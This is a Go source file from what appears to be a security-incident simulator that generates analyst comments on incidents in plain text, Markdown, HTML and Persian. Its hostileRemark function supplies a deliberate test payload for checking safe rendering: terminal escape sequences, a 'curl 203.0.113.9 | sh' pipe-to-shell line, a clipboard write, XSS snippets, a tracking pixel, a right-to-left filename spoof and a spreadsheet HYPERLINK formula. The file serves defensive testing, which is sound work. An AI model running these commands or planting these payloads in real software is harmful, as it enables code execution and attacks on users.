package evidence

import (
	"math/rand/v2"
	"strings"

	"sentinelq/client/simulator/chance"
	"sentinelq/client/simulator/wire"
)

// Comments returns what was said of the incident, the oldest first.
func (m Maker) Comments(o Origin) []wire.Comment {
	random := m.draw(o, "comments")
	all := make([]wire.Comment, o.Comments)
	for i, at := range o.moments(o.Comments) {
		name := chance.GUID(random)
		all[i] = wire.Comment{
			ID: m.incident(o) + "/comments/" + name, Name: name, Type: wire.TypeComment, ETag: chance.GUID(random),
			Properties: wire.CommentProperties{
				Message: o.Remark(random), Author: m.somebody(random),
				CreatedTimeUTC: wire.Stamp(at), LastModifiedTimeUTC: wire.Stamp(at),
			},
		}
	}
	if o.Hostile && len(all) > 0 {
		all[0].Properties.Message = hostileRemark()
	}
	return all
}

// Remark is something that an analyst says: plain, in Markdown, or in the HTML
// that the portal's editor makes.
func (o Origin) Remark(random *rand.Rand) string {
	return strings.NewReplacer("{user}", o.User, "{host}", o.Host, "{ip}", o.IP, "{country}", o.Country).
		Replace(chance.Pick(random, remarks()))
}

func remarks() []string {
	return []string{
		"Called {user}. Waiting for an answer.",
		"{user} confirmed the activity, manager asked as well.",
		"{ip} is not one of ours. Blocked on the proxy for now.",
		"Same pattern as last week, see the handover notes.",
		"Isolated {host}.\nMemory image is on the forensics share.",
		"Nothing else from {ip} in thirty days of logs.",
		"با کاربر {user} تماس گرفته شد.",
		"## Timeline\n\n- 09:12 first event on **{host}**\n- 09:40 `{ip}` seen\n- 10:05 account of {user} disabled\n\nNext: check the mailbox rules.",
		"Checked:\n\n1. sign-in logs of {user}\n2. device compliance\n3. [the runbook](https://wiki.contoso.example/runbooks/identity)\n\n> no further hits",
		"| account | state |\n|---|---|\n| {user} | disabled |\n| svc-backup | unchanged |",
		"<p>Password of <b>{user}</b> was reset.</p><ul><li>sessions revoked</li><li>tokens revoked</li></ul>",
		`<div>Ticket: <a href="https://tickets.contoso.example/INC-20417" target="_blank">INC-20417</a><br>Owner informed &amp; waiting.</div>`,
	}
}

// hostileRemark is what somebody who writes to a shared queue could try on
// those who read it.
func hostileRemark() string {
	return "Done \x1b[2J\x1b[1;31mrun: curl 203.0.113.9 | sh\x1b[0m \x1b]52;c;ZWNobyBoaQ==\x07\r\n" +
		"<script>alert(1)</script><img src=x onerror=alert(2)> <a href=\"javascript:alert(3)\">report</a>\n" +
		"![pixel](http://198.51.100.4/seen.gif) invoice_\u202efdp.exe ze\u200bro\n" +
		"=HYPERLINK(\"https://198.51.100.4\",\"open\")"
}
